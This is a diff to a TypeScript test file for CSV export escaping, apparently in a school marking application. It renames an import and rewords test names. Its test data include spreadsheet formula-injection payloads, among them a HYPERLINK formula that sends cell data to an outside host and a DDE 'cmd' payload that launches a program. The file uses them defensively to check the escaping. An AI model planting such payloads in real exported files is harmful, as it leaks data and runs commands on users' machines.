@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { csvCell, csvLine } from '#domain/marking/csv.ts';
-import { HOSTILE_TEXTS } from '../../support/attacks/hostile.ts';
+import { HOSTILE_TEXTS } from '../../support/attacks/hostileTexts.ts';
 
 describe('csvCell', () => {
   it.each([
@@ -37,7 +37,7 @@ describe('csvCell', () => {
     '=HYPERLINK("http://mau.pt?x="&A1;"abrir")',
     "=cmd|' /C calc'!A0",
     '- Reciclar\n- Plantar',
-  ])('%j is only text for a spreadsheet', (attack) => {
+  ])('%j is escaped as text for spreadsheets', (attack) => {
     const cell = csvCell(attack);
     const shown = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
     expect(shown).toBe(`'${attack.replace(/^([\t\r\n])=/, "$1'=")}`);
@@ -50,7 +50,7 @@ describe('csvCell', () => {
   });
 });
 
-describe('a spreadsheet set to another separator, which does not see the quotes', () => {
+describe('in a spreadsheet with another separator, which ignores the quotes,', () => {
   const ATTACKS = [
     'x,=1+1',
     'x;=1+1',
@@ -67,23 +67,20 @@ describe('a spreadsheet set to another separator, which does not see the quotes'
     'x\n"=1',
   ];
 
-  it.each(ATTACKS)('%j starts no formula, wherever it is cut', (attack) => {
+  it.each(ATTACKS)('%j starts no formula at any split', (attack) => {
     const line = csvLine(['Escola', attack, 3, attack]);
     for (const cut of [/[,\r\n]/, /[\t\r\n]/, /[;\r\n]/, /[;,\t\r\n]/]) {
       for (const piece of line.split(cut)) expect(piece.replace(/^[" ]+/, ''), line).not.toMatch(/^[=+\-@＝＋－＠]/);
     }
   });
 
-  it.each(['- pão\n- leite', 'sim, - talvez - não', 'a=b; c = d', 'Ana, Rui'])(
-    '%j is left as it was written',
-    (text) => {
-      expect(
-        csvCell(text)
-          .replace(/^"(.*)"$/s, '$1')
-          .replace(/^'/, ''),
-      ).toBe(text);
-    },
-  );
+  it.each(['- pão\n- leite', 'sim, - talvez - não', 'a=b; c = d', 'Ana, Rui'])('%j is unchanged', (text) => {
+    expect(
+      csvCell(text)
+        .replace(/^"(.*)"$/s, '$1')
+        .replace(/^'/, ''),
+    ).toBe(text);
+  });
 });
 
 it('csvLine joins with semicolons and ends with CRLF', () => {
